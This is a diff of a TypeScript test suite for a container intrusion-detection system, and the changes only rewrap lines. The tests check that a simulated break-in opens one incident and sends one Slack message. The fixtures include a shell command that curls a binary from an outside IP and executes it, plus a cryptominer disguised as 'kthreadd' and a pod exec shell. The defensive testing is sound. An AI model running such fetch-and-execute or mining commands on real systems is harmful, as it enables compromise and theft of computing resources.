@@ -244,10 +244,19 @@ function podExec(): object {
     stage: 'ResponseComplete',
     requestURI: '/api/v1/namespaces/shop/pods/payment-7d4c9f6b5-x2x9k/exec?command=sh&stdin=true&tty=true',
     verb: 'create',
-    user: { username: 'system:serviceaccount:shop:default', groups: ['system:serviceaccounts', 'system:authenticated'] },
+    user: {
+      username: 'system:serviceaccount:shop:default',
+      groups: ['system:serviceaccounts', 'system:authenticated'],
+    },
     sourceIPs: ['203.0.113.9'],
     userAgent: 'kubectl/v1.33.0',
-    objectRef: { resource: 'pods', namespace: 'shop', name: 'payment-7d4c9f6b5-x2x9k', apiVersion: 'v1', subresource: 'exec' },
+    objectRef: {
+      resource: 'pods',
+      namespace: 'shop',
+      name: 'payment-7d4c9f6b5-x2x9k',
+      apiVersion: 'v1',
+      subresource: 'exec',
+    },
     responseStatus: { metadata: {}, code: 101 },
     requestReceivedTimestamp: time,
     stageTimestamp: time,
@@ -274,10 +283,20 @@ describe('a container that somebody breaks into', () => {
 
   it('opens one incident with what is known of the image, and one message', async () => {
     const server = processOf('/app/server', '');
-    const shell = processOf('/bin/sh', '-c "curl -s http://203.0.113.77/x -o /tmp/.x/kthreadd; /tmp/.x/kthreadd"', server);
+    const shell = processOf(
+      '/bin/sh',
+      '-c "curl -s http://203.0.113.77/x -o /tmp/.x/kthreadd; /tmp/.x/kthreadd"',
+      server,
+    );
     const curl = processOf('/usr/bin/curl', '-s http://203.0.113.77/x -o /tmp/.x/kthreadd', shell);
     const miner = processOf('/tmp/.x/kthreadd', '-o stratum+tcp://203.0.113.77:3333 -u wallet', shell);
-    await report('nodes', exec(shell, server), exec(curl, shell), connect(curl, '203.0.113.77', 80), exec(miner, shell));
+    await report(
+      'nodes',
+      exec(shell, server),
+      exec(curl, shell),
+      connect(curl, '203.0.113.77', 80),
+      exec(miner, shell),
+    );
     await until('an incident is open', async () => (await incidents()).length > 0);
     await until('Slack has the message', () => messages().length > 0);
     const [incident, ...others] = await incidents();
@@ -331,7 +350,10 @@ describe('a container that somebody breaks into', () => {
     const notes = slack.thread(channel, messages()[0]!.ts).slice(thread);
     expect(notes.map(({ text }) => text.split(': ').at(-1))).toEqual(['Resolved by bootstrap']);
     expect(messages()).toHaveLength(1);
-    const mails = mail.received.map(({ mail: { subject, references } }) => ({ subject, references: [references].flat() }));
+    const mails = mail.received.map(({ mail: { subject, references } }) => ({
+      subject,
+      references: [references].flat(),
+    }));
     expect(mails.at(-1)).toMatchObject({ subject: expect.stringMatching(/^Re: /) });
     expect(new Set(mails.map(({ references }) => references[0])).size).toBe(1);
   });
